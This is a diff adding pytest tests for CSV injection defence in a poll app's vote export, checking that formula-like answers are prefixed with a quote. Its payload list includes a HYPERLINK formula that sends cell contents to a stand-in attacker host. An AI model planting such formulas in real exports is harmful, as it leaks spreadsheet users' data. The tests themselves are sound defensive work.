@@ -82,3 +82,40 @@ def test_rows_end_with_crlf(make_poll):
 
 def test_export_without_votes_is_just_the_header(make_poll):
     assert len(_rows(votes_csv(make_poll(), []))) == 1
+
+
+# ------------------------------------------------------------------ formulas (CSV injection)
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=1+1",
+    "  =1+1",  # some spreadsheets skip leading spaces
+    "＝1+1",  # full-width equals sign
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_answers_a_spreadsheet_would_evaluate_are_prefixed_with_a_quote(make_poll, formula):
+    data = votes_csv(make_poll(options=(formula, "No")), [StoredVote(0, 1, VOTED_AT)])
+    assert _rows(data)[1][2] == "'" + formula
+
+
+@pytest.mark.parametrize("option", ["Yes", "1+1", "Pizza = good", "a-b", "e@mail", "'quoted", "12"])
+def test_other_answers_are_exported_as_typed(make_poll, option):
+    data = votes_csv(make_poll(options=(option, "No")), [StoredVote(0, 1, VOTED_AT)])
+    assert _rows(data)[1][2] == option
+
+
+def test_no_cell_of_a_hostile_export_starts_like_a_formula(make_poll):
+    poll = make_poll(options=tuple(FORMULAS))
+    rows = _rows(votes_csv(poll, [StoredVote(i, 10 + i, VOTED_AT) for i in range(len(FORMULAS))]))
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), row
+            assert not cell.startswith(("\t", "\r", "\n")), row
